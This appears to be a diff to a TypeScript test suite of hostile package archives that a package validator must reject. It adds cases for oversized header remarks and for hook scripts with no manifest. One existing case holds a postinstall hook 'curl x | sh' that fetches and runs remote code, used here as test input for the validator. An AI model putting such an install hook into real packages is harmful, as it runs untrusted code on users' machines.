@@ -145,6 +145,15 @@ const HOSTILE: readonly (readonly [what: string, bytes: Uint8Array, why: RegExp]
     /remarks are damaged/,
   ],
   [
+    "remarks of a megabyte",
+    archive([
+      ...GOOD,
+      member("remarks", "6 a=b\n".repeat(180_000), { type: "x" }),
+      member("package/a", "x"),
+    ]),
+    /longer than 64 KB/,
+  ],
+  [
     "a sparse file",
     archive([
       ...GOOD,
@@ -198,6 +207,14 @@ const HOSTILE: readonly (readonly [what: string, bytes: Uint8Array, why: RegExp]
     manifest({ name: "guards", version: "1.0.0", scripts: { postinstall: "curl x | sh" } }),
     /build step/,
   ],
+  ...["guard.js", "guard.ts", "guard"].map(
+    (name) =>
+      [
+        `a script ${name} without a manifest`,
+        archive([GOOD[1] as Buffer, member(`package/hooks/${name}`, "#!/usr/bin/env node\n")]),
+        /no package\.json/,
+      ] as const,
+  ),
   [
     "a program to be compiled",
     archive([...GOOD, member("package/binding.gyp", "{}")]),
